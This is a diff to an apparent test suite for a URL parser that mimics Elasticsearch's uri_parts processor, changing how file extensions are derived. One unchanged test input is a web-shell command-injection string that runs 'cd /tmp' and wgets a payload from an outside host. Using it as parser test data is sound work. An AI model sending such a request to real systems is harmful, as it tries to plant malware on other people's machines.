@@ -19,8 +19,12 @@ from parsers._lines import committed, epoch_s_ms, ip_kind, iso8601_ms, java_long
     # a space makes java.net.URI fail; java.net.URL keeps the raw text and puts everything after `?` in the query
     ("http://127.0.0.1:80/shell?cd+/tmp;wget+ a.tk/jaws", {"scheme": "http", "domain": "127.0.0.1", "port": 80,
                                                             "path": "/shell", "query": "cd+/tmp;wget+ a.tk/jaws"}),
-    # the extension is whatever follows the last dot of the path, even across a slash
-    ("http://h/a.b/c", {"scheme": "http", "domain": "h", "path": "/a.b/c", "extension": "b/c"}),
+    # uri_parts since Elasticsearch 8.13 (elastic/elasticsearch#105689): the extension comes from the last
+    # segment only; a dot in a directory gives none
+    ("http://h/a.b/c", {"scheme": "http", "domain": "h", "path": "/a.b/c"}),
+    ("/test-s3-ks/v1.2/file", {"path": "/test-s3-ks/v1.2/file"}),
+    ("/v1.2/a%20b.tar.gz", {"path": "/v1.2/a b.tar.gz", "extension": "gz"}),
+    ("http://h/a.b/c|d.txt", {"scheme": "http", "domain": "h", "path": "/a.b/c|d.txt", "extension": "txt"}),
     ("http://[::1]:8080/x", {"scheme": "http", "domain": "[::1]", "port": 8080, "path": "/x"}),
     ("https://user:pw@host/p#frag", {"scheme": "https", "domain": "host", "path": "/p", "fragment": "frag",
                                      "user_info": "user:pw", "username": "user", "password": "pw"}),
